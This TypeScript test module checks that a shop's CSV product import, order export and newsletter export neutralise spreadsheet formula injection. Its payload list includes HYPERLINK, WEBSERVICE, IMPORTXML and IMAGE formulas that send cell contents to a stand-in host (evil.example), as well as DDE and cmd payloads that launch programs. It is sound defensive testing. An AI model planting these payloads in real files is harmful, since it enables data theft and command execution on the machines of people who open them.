import { parse } from 'csv-parse/sync'
import type { ProductResponse } from '#contract/catalogue.ts'
import type { ImportResponse } from '#contract/catalogue-forms.ts'
import { readProductCell } from '#rules/csv.ts'
import { uploadForm } from '#server/testing/forms.ts'
import { shelve } from '#server/testing/sample-rows.ts'
import { scriptAttacks } from '#server/testing/script-attacks.ts'
import { faultOf } from './judge.ts'
import { type Attack, inHands, openTally, type Tally } from './part.ts'
import { jsonOf, type Target } from './target.ts'

type Row = Record<string, string>

/** Formulas and `size` scripts as products from a spreadsheet, as customers and as readers, and back into spreadsheets. */
export const spreadsheets: Attack = async (target, size) => {
  const tally = openTally()
  const token = await target.newPerson('admin')
  const texts = [...formulaTexts, ...scriptAttacks.slice(0, size)].map((text) => text.slice(0, 120).trim())
  await tryProducts(target, token, texts, tally)
  await tryOrders(target, token, texts, tally)
  await tryReaders(target, token, tally)
  return tally.outcome(`; ${texts.length} texts`)
}

async function tryProducts(target: Target, token: string, texts: readonly string[], tally: Tally) {
  const mark = `sheet ${process.hrtime.bigint()}`
  const lines = texts.map((text) => [text, mark, 'mask', '145.50', '7', text, text, text, text.slice(0, 60)])
  const columns = 'name,brands,category,price,stock_quantity,description,how_to_use,benefits,fda_number'
  const file = `${columns}\r\n${lines.map(writeLine).join('')}`
  const imported = await importing(target, token, file, '0', tally)
  if (imported.added !== texts.length) {
    return tally.fail(
      `of ${texts.length} products ${imported.added} were taken: ${JSON.stringify(imported.mistakes)}`,
    )
  }
  const csv = await download(target, token, '/api/products.csv', tally)
  const written = readSheet(csv).filter(({ brands }) => brands === mark)
  if (written.length !== texts.length) tally.fail(`of ${texts.length} products ${written.length} are written`)
  // A guard that is there already is taken for the one that the shop puts before a formula.
  const unread = new Set(texts.map(readProductCell))
  for (const { id } of written) {
    const { name } = jsonOf<ProductResponse>(
      await target.ask('GET', `/api/products/${id}?admin=1`, { token }),
    )
    unread.delete(name)
  }
  for (const text of unread) tally.fail(`the product ${text} came in as another text`)
  // What comes back as it went out changes nothing: not a letter was lost on the way.
  const back = await importing(target, token, csv, '1', tally)
  if (back.changed !== 0 || back.mistakes.length > 0)
    tally.fail(`its own file would change ${JSON.stringify(back)}`)
}

async function importing(target: Target, token: string, csv: string, dryRun: '0' | '1', tally: Tally) {
  const file = { bytes: Buffer.from(csv), name: 'products.csv', type: 'text/csv' }
  const form = await uploadForm([
    ['file', file],
    ['dry_run', dryRun],
  ])
  const answer = await target.ask('POST', '/api/products/import', { token, ...form })
  tally.count('products from a spreadsheet', answer.ms)
  const fault = faultOf(answer)
  if (fault !== null) tally.fail(`products from a spreadsheet → ${fault}`)
  const nothing = { added: 0, changed: 0, mistakes: [jsonOf(answer)] }
  return answer.status === 200 ? jsonOf<ImportResponse>(answer) : nothing
}

async function tryOrders(target: Target, token: string, texts: readonly string[], tally: Tally) {
  const jar = await shelve(target.context, { name: '=SUM(A1:A9)', stock: 10_000 })
  await inHands(4, texts, async (text) => {
    const order = {
      customer_name: text.slice(0, 80).trim(),
      customer_phone: '+233 24 123 4567',
      address: text,
      city: text.slice(0, 60).trim(),
      state: 'Ashanti',
      items: [{ product_id: jar, quantity: 1 }],
    }
    await post(target, '/api/orders', order, tally)
  })
  const names = new Set(
    readSheet(await download(target, token, '/api/orders.csv', tally)).map(({ Customer }) => Customer),
  )
  for (const text of texts) {
    const name = text.slice(0, 80).trim()
    if (!names.has(name) && !names.has(`'${name}`))
      tally.fail(`the customer ${name} is written in another way`)
  }
}

async function tryReaders(target: Target, token: string, tally: Tally) {
  const signs = ['=1+1', '+1', '-1', '@1', '=cmd|x', '|x', '%x', '`x`', '{x}']
  for (const sign of signs) await post(target, '/api/newsletter', { email: `${sign}@example.com` }, tally)
  await download(target, token, '/api/newsletter.csv', tally)
}

async function post(target: Target, path: string, body: object, tally: Tally) {
  const headers = { 'content-type': 'application/json' }
  const answer = await target.ask('POST', path, { headers, body: JSON.stringify(body) })
  tally.count(path, answer.ms)
  const fault = faultOf(answer)
  if (fault !== null) tally.fail(`${JSON.stringify(body)} → ${fault}`)
}

/** The file, in which no cell may act. */
async function download(target: Target, token: string, path: string, tally: Tally): Promise<string> {
  const answer = await target.ask('GET', path, { token })
  tally.count(path, answer.ms)
  if (answer.status !== 200) tally.fail(`${path} → ${answer.status}`)
  const isFile = /^attachment;/.test(String(answer.headers['content-disposition']))
  if (!isFile) tally.fail(`${path} would be shown, not kept`)
  const csv = answer.bytes.toString()
  for (const [line, cells] of parse(csv, { bom: true, relax_column_count: false }).entries()) {
    for (const cell of cells as string[]) {
      const acts = /^[\s\p{C}]*[=+\-@＝＋－＠]|^[\t\r\n]/u.test(cell)
      if (acts) tally.fail(`${path} line ${line + 1}: ${JSON.stringify(cell)} starts a formula`)
    }
  }
  return csv
}

function readSheet(csv: string): Row[] {
  return parse(csv, { bom: true, columns: true })
}

function writeLine(cells: readonly string[]): string {
  return `${cells.map((cell) => `"${cell.replaceAll('"', '""')}"`).join(',')}\r\n`
}

/** Texts that a spreadsheet would carry out if they stood at the start of a cell. */
const formulaTexts: readonly string[] = [
  '=1+1',
  '=HYPERLINK("https://evil.example","Pay here")',
  '=HYPERLINK("https://evil.example/?x="&A1&A2,"more")',
  '=WEBSERVICE("https://evil.example/"&A1)',
  '=IMPORTXML("https://evil.example","//a")',
  '=IMPORTDATA("https://evil.example")',
  '=IMAGE("https://evil.example/"&B2)',
  "=cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  '=DDE("cmd";"/C calc";"x")',
  "=MSEXCEL|'..\\..\\..\\Windows\\System32\\cmd.exe'!x",
  '+233 24 123 4567',
  '-5',
  '@here',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  "'=1+1",
  "''=1+1",
  "'quoted'",
  '"=1+1"',
  '"",=1+1',
  'a","=1+1',
  'a\n=1+1',
  'a;=1+1',
  'a\t=1+1',
  '%0A=1+1',
  '|=1+1',
  '{=1+1}',
  '=',
  '==1',
  '=\u200b1+1',
  '\u200b=1+1',
  '\u00a0=1+1 and more',
  '\u2060@x',
  'sep=;',
  'ID;PWXL;N;E',
]
